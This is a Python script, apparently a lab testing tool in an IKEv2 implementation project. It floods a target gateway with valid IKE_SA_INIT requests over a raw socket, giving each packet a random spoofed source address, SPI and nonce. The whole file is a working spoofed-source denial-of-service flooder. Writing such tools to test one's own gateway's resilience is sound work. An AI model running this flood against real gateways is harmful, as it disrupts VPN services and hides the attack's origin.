"""Sends IKE_SA_INIT requests under invented addresses: `sender TARGET PORT RATE SECONDS`.

Each is whole and valid, with an SPI and a nonce of its own: a gateway has to answer it. It runs in
the lab's namespaces only, where such packets can leave. Prints how many it has sent.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import sys
import time
from ipaddress import IPv4Address

from hushwire.config.values import ike_proposal
from hushwire.crypto.suites import DEFAULT_IKE
from hushwire.ike.proposal import offer
from hushwire.wire.ike.header import Header
from hushwire.wire.ike.message import Payload, build_plain
from hushwire.wire.ike.payloads.ke import KeyExchangePayload
from hushwire.wire.ike.payloads.nonce import Nonce
from hushwire.wire.ike.payloads.notify import Notify
from hushwire.wire.registry import ExchangeType, KeyExchangeId, NotifyType, ProtocolId

_FIRST_SOURCE = int(IPv4Address("11.0.0.1"))
_SOURCES = 1 << 24
_SPI_AT, _NONCE_OCTETS = 28, 32


def packet(target: str, port: int) -> tuple[bytearray, int]:
    """An IPv4 packet with a request, its source still to be filled in; and where its nonce is."""
    nonce = bytes(range(1, _NONCE_OCTETS + 1))
    payloads: tuple[Payload, ...] = (
        offer(tuple(ike_proposal(text) for text in DEFAULT_IKE), ProtocolId.IKE, b""),
        KeyExchangePayload(KeyExchangeId.X25519, os.urandom(32)),
        Nonce(nonce),
        Notify(NotifyType.NAT_DETECTION_SOURCE_IP, os.urandom(20)),
        Notify(NotifyType.NAT_DETECTION_DESTINATION_IP, os.urandom(20)),
        Notify(NotifyType.SIGNATURE_HASH_ALGORITHMS, bytes.fromhex("0002000300040005")),
        Notify(NotifyType.IKEV2_FRAGMENTATION_SUPPORTED),
    )
    header = Header(bytes(8), bytes(8), ExchangeType.IKE_SA_INIT, 0, initiator=True, response=False)
    message = build_plain(header, payloads)
    octets = 28 + len(message)
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, octets, 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(target)
    )
    udp = struct.pack("!HHHH", 500, port, 8 + len(message), 0)
    whole = bytearray(ip + udp + message)
    return whole, whole.index(nonce)


def main() -> None:
    target, port, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    data, nonce_at = packet(target, port)
    chance = random.Random(0)
    sent, begun = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        print("flooding", flush=True)
        while (now := time.monotonic() - begun) < float(seconds):
            while sent < now * rate:
                source = _FIRST_SOURCE + chance.randrange(_SOURCES)
                data[12:16] = source.to_bytes(4, "big")
                data[_SPI_AT : _SPI_AT + 8] = chance.randbytes(8)
                data[nonce_at : nonce_at + _NONCE_OCTETS] = chance.randbytes(_NONCE_OCTETS)
                sock.sendto(data, (target, 0))
                sent += 1
            time.sleep(0.002)
    print(sent)


if __name__ == "__main__":
    main()
